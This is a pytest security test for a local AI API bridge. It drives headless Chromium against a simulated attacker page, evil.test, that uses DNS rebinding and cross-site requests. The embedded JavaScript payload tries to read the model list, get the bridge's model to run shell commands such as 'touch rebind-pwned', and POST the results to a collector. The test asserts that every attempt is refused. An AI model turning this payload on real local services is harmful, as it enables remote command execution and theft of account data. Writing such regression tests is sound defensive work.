"""A real browser (headless Chromium) on a hostile page tries to use the bridge on loopback.

The page is served from `http://evil.test:P/`, where Chromium resolves `evil.test` to
127.0.0.1 (`--host-resolver-rules`). Port P is the attacker's: it serves the page once,
then forwards every later connection to the bridge, which is what DNS rebinding does (the
name now points at the bridge; the browser still treats the bridge as the page's origin).
The page then tries:

- `rebind_read`: a same-origin GET /v1/models (would read the account's models);
- `rebind_post`: a same-origin JSON POST asking the model to run `touch rebind-pwned`;
- `simple_post`: a cross-site `text/plain` POST (no preflight) asking for `touch plain-pwned`;
- `cors_read`: a cross-site CORS read of /v1/models;
- `form_post`: a cross-site form submission (urlencoded) to the chat route.

It reports what it could read to a collector. Before: `rebind_read` read the model list and
both shell commands ran. Now: every attempt is refused and no command runs.
Skipped, with the reason, where Chromium (Debian package `chromium`) is absent.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.conftest import Stack

CHROMIUM_FLAGS = [
    "--no-sandbox",  # root needs it; the page is ours
    "--headless",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]

PAGE = """<!doctype html><html><body><form id="f" method="POST" target="sink"
 enctype="application/x-www-form-urlencoded"><input name="x"></form>
<iframe name="sink"></iframe><script>
const bridge = "BRIDGE";
const results = {};
const chat = (cmd) => JSON.stringify({model: "gpt-5.4",
  messages: [{role: "user", content: "/exec shell " + JSON.stringify({command: cmd})}]});
async function attempt(name, run) {
  try { results[name] = await run(); } catch (e) { results[name] = "blocked: " + e; }
}
(async () => {
  await attempt("rebind_read", async () => {
    const r = await fetch("/v1/models"); return r.status + " " + (await r.text()).slice(0, 600);
  });
  await attempt("rebind_post", async () => {
    const r = await fetch("/v1/chat/completions", {method: "POST",
      headers: {"content-type": "application/json"}, body: chat("touch rebind-pwned")});
    return r.status + " " + (await r.text()).slice(0, 600);
  });
  await attempt("simple_post", async () => {
    const r = await fetch(bridge + "/v1/chat/completions", {method: "POST", mode: "no-cors",
      headers: {"content-type": "text/plain"}, body: chat("touch plain-pwned")});
    return "sent (opaque: " + r.type + ")";
  });
  await attempt("cors_read", async () => {
    const r = await fetch(bridge + "/v1/models"); return r.status + " " + (await r.text());
  });
  await attempt("form_post", async () => {
    const form = document.getElementById("f");
    form.action = bridge + "/v1/chat/completions";
    form.elements.x.value = chat("touch form-pwned");
    form.submit();
    await new Promise((done) => setTimeout(done, 1000));
    return "submitted";
  });
  await fetch("COLLECTOR", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
</script></body></html>"""


def _chromium() -> str:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        found = shutil.which(name)
        if found:
            return found
    pytest.skip("Chromium is not installed (Debian package `chromium`); browser attacks untested")


class Attacker:
    """The attacker's port: the page once, then raw forwarding to the bridge; and the
    collector that receives the page's report."""

    def __init__(self, bridge_port: int) -> None:
        self.bridge_port = bridge_port
        self.page_served = False
        self.report: dict[str, str] | None = None
        self.page = ""

    async def start(self) -> tuple[int, int]:
        self.rebinder = await asyncio.start_server(self._rebind, "127.0.0.1", 0)
        self.collector = await asyncio.start_server(self._collect, "127.0.0.1", 0)
        return (
            self.rebinder.sockets[0].getsockname()[1],
            self.collector.sockets[0].getsockname()[1],
        )

    async def stop(self) -> None:
        for server in (self.rebinder, self.collector):
            server.close()

    async def _rebind(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            writer.close()
            return
        if not self.page_served:
            if head.startswith(b"GET / "):
                self.page_served = True
                body = self.page.encode()
                writer.write(
                    b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n"
                    + f"content-length: {len(body)}\r\n\r\n".encode()
                    + body
                )
            else:
                writer.write(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n")
            await writer.drain()
            writer.close()
            return
        # "DNS now points at the bridge": the same bytes reach it, Host header unchanged.
        up_reader, up_writer = await asyncio.open_connection("127.0.0.1", self.bridge_port)
        up_writer.write(head)
        await asyncio.gather(_pipe(reader, up_writer), _pipe(up_reader, writer))

    async def _collect(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n"):
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":")[1])
        body = await reader.readexactly(length)
        if head.startswith(b"POST"):
            self.report = json.loads(body)
        writer.write(
            b"HTTP/1.1 204 No Content\r\naccess-control-allow-origin: *\r\n"
            b"connection: close\r\n\r\n"
        )
        await writer.drain()
        writer.close()


async def _pipe(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except (ConnectionError, OSError):
        pass
    finally:
        writer.close()


def test_a_hostile_page_in_chromium_gets_nothing(
    stack: Stack, shell_workspace: Path, tmp_path: Path
) -> None:
    binary = _chromium()
    bridge_port = int(stack.bridge_url.rsplit(":", 1)[1])
    attacker = Attacker(bridge_port)
    page_port, collector_port = stack.call(attacker.start())
    attacker.page = PAGE.replace("BRIDGE", stack.bridge_url).replace(
        "COLLECTOR", f"http://127.0.0.1:{collector_port}/report"
    )
    browser = subprocess.Popen(
        [
            binary,
            *CHROMIUM_FLAGS,
            f"--user-data-dir={tmp_path / 'profile'}",
            "--host-resolver-rules=MAP evil.test 127.0.0.1",
            f"http://evil.test:{page_port}/",
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 90
        while attacker.report is None:
            assert browser.poll() is None, "Chromium exited before the page reported"
            assert time.monotonic() < deadline, "the page never reported"
            time.sleep(0.05)
    finally:
        browser.terminate()
        try:
            browser.wait(10)
        except subprocess.TimeoutExpired:
            browser.kill()
        stack.call(attacker.stop())
    report = attacker.report
    assert report is not None
    assert report["rebind_read"].startswith("400 "), report
    assert "invalid_host" in report["rebind_read"] and "gpt-5.4" not in report["rebind_read"]
    assert report["rebind_post"].startswith("400 "), report
    assert report["cors_read"].startswith("blocked"), report
    for name in ("rebind-pwned", "plain-pwned", "form-pwned"):
        assert not (shell_workspace / name).exists(), (name, report)
